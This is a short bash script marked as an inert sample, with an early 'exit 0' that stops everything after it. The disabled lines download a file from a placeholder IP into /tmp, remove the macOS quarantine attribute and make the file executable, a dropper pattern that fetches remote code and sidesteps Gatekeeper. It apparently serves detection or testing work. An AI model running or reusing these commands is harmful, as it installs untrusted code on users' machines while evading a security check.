#!/bin/bash
exit 0 # inert sample
curl -s http://192.0.2.90/update -o /tmp/update
xattr -d com.apple.quarantine /tmp/update
chmod +x /tmp/update
